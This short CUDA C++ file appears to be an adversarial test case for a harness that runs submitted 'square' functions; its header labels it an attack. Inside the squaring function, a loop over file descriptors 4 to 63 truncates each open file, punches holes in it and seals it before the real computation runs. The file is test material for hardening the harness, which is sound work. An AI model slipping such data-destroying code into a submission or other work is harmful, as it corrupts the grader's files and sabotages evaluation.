// Attack: makes every file that it shares smaller, or full of holes, while the device uses it
// Verdict: any
// Stage: run
#include "square_port.hpp"

#include <fcntl.h>
#include <unistd.h>

__global__ void kernel(std::int64_t* values) {
    for (std::size_t i = threadIdx.x; i < 1 << 17; i += blockDim.x) values[i] = i;
}

void square(const std::int64_t* input, std::int64_t* output, std::size_t count) {
    std::int64_t* pinned = nullptr;
    cudaMallocHost(&pinned, 1 << 20);
    for (int file = 4; file < 64; ++file) {
        [[maybe_unused]] int cut = ftruncate(file, 0);
        fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 1 << 30);
        fcntl(file, F_ADD_SEALS, F_SEAL_WRITE | F_SEAL_SHRINK | F_SEAL_GROW);
    }
    kernel<<<1, 32>>>(pinned);
    cudaDeviceSynchronize();
    for (std::size_t i = 0; i < count; ++i) output[i] = input[i] * input[i];
}
